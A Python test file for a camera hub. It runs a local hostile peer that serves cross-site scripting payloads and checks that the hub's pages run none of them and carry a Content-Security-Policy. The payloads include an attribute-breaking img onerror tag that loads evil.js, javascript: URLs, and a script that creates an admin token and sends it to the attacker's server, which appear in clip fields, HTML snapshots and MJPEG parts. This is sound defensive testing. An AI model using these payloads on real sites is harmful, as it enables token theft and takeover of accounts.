"""A hostile peer hub, in a real Chromium: a peer whose answers carry script (in a clip's
fields, as a snapshot served as HTML, as a part of an MJPEG stream) runs nothing in this
hub's pages. No request leaves the page for the attacker and no token is made; every
page carries the Content-Security-Policy."""

import json
import threading
import urllib.request
from datetime import datetime, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from conftest import WAIT


class HostilePeer:
    """A peer hub's API that answers with script wherever it can. Requests for anything
    but `/api/...` (which the hub makes for the pages) are the attacker's script calling
    home: `stolen` lists them."""

    def __init__(self):
        self.stolen = []
        peer = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                peer.answer(self)

            def do_POST(self):
                peer.answer(self)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        home = f"http://127.0.0.1:{self.port}"
        # Run anywhere, it calls home and makes itself an admin token on the hub.
        self.script = (f"fetch('{home}/stolen');fetch('/api/tokens',{{method:'POST',"
                       "headers:{'content-type':'application/json'},body:'{\"role\":\"admin\"}'})"
                       f".then(r=>r.text()).then(t=>fetch('{home}/stolen?'+encodeURIComponent(t)))")
        self.tag = (f"<img src=x onerror=\"s=document.createElement('script');"
                    f"s.src='{home}/evil.js';document.body.append(s)\">")

    def answer(self, req):
        path = req.path.split("?")[0]
        if not path.startswith("/api/"):
            self.stolen.append(req.path)
            return self.send(req, "application/javascript", self.script.encode())
        now = datetime.now(timezone.utc).isoformat()
        clip = {"duration_s": 5.0, "bytes": 1000, "motion_frames": 3, "peak": 4.0,
                "in_progress": False, "start": now}
        if path == "/api/cameras":
            body = [{"name": "x", "online": True, "width": 640, "height": 480}]
        elif path == "/api/recordings":
            body = [
                # A URL that closes its attribute.
                {**clip, "id": 1, "camera": "door", "video_url": f'/api/recordings/1.mp4">{self.tag}',
                 "thumbnail_url": "/api/recordings/1.jpg"},
                # A script URL.
                {**clip, "id": 2, "camera": "door", "video_url": f"javascript:{self.script}",
                 "thumbnail_url": "/api/recordings/2.jpg"},
                # Good URLs, script in the text.
                {**clip, "id": 3, "camera": self.tag, "video_url": "/api/recordings/3.mp4",
                 "thumbnail_url": "/api/recordings/3.jpg"},
            ]
        elif path.endswith(".mjpg"):
            part = f"<script>{self.script}</script>".encode()
            body = (b"--frame\r\nContent-Type: text/html\r\nContent-Length: "
                    + str(len(part)).encode() + b"\r\n\r\n" + part + b"\r\n--frame--\r\n")
            return self.send(req, "multipart/x-mixed-replace; boundary=frame", body)
        else:
            # A snapshot or a thumbnail: a page.
            return self.send(req, "text/html", f"<script>{self.script}</script>{self.tag}".encode())
        self.send(req, "application/json", json.dumps(body).encode())

    @staticmethod
    def send(req, kind, body):
        req.send_response(200)
        req.send_header("Content-Type", kind)
        req.send_header("Content-Length", str(len(body)))
        req.end_headers()
        req.wfile.write(body)

    def close(self):
        self.server.shutdown()


def test_a_hostile_peer_runs_nothing_in_the_hubs_pages(make_hub, browser_with, tmp_path):
    peer = HostilePeer()
    try:
        config = tmp_path / "a.toml"
        config.write_text(f'[[peers]]\nname = "evil"\nurl = "http://127.0.0.1:{peer.port}"\n'
                          'token = "anything"\n')
        hub = make_hub("--config", str(config))
        page = browser_with().new_page()
        page.set_default_timeout(WAIT * 1000)

        page.goto(hub.https_url(f"/recordings?token={hub.token}"))
        card = page.wait_for_selector(".clip[data-id='evil:3']")
        page.wait_for_load_state("networkidle")
        shown = card.query_selector(".name").text_content()
        left_out = [page.query_selector(f".clip[data-id='evil:{i}']") is None for i in (1, 2)]

        page.goto(hub.https_url("/"))
        page.wait_for_selector(".card[data-hub='evil'][data-camera='x']")
        page.wait_for_load_state("networkidle")

        # The peer's answers opened as pages of the hub's origin.
        snapshot = page.goto(hub.https_url("/api/peers/evil/cameras/x/snapshot.jpg"))
        snapshot_said = (snapshot.status, page.content())
        stream = page.goto(hub.https_url("/api/peers/evil/cameras/x/stream.mjpg"), wait_until="commit")
        page.wait_for_load_state("networkidle")

        assert peer.stolen == [], f"the peer's script ran in the hub's page: {peer.stolen}"
        assert hub.api("/api/tokens") == [], "the peer's script made a token"
        assert snapshot_said[0] == 502, "a snapshot served as HTML is refused"
        assert "not one this hub's API serves" in snapshot_said[1]
        assert "sandbox" in stream.headers.get("content-security-policy", "")
        # The peer's text is shown as text; clips with a bad URL or a script URL are left out.
        assert peer.tag in shown
        assert left_out == [True, True]
    finally:
        peer.close()


def test_every_page_and_answer_carries_the_policy(hub):
    for path in ["/", "/recordings", "/publish", "/cameras/x", "/assets/app.css",
                 "/api/cameras", "/nowhere"]:
        req = urllib.request.Request(hub.url(path), headers={"Authorization": f"Bearer {hub.token}"})
        try:
            res = urllib.request.urlopen(req, timeout=WAIT)
        except urllib.error.HTTPError as e:
            res = e
        policy = {d.split()[0]: d.split()[1:] for d in
                  res.headers["Content-Security-Policy"].split(";") if d.strip()}
        assert policy["script-src"] == ["'self'"], (path, policy)
        assert policy["object-src"] == ["'none'"], (path, policy)
        assert policy["base-uri"] == ["'none'"], (path, policy)
        assert res.headers["X-Content-Type-Options"] == "nosniff", path
    # A refusal too (a page for a person without the token).
    refused = urllib.request.Request(hub.url("/"), headers={"Accept": "text/html",
                                                            "Host": "evil.example"})
    try:
        urllib.request.urlopen(refused, timeout=WAIT)
        raise AssertionError("a request for another name was answered")
    except urllib.error.HTTPError as e:
        assert "script-src 'self'" in e.headers["Content-Security-Policy"]
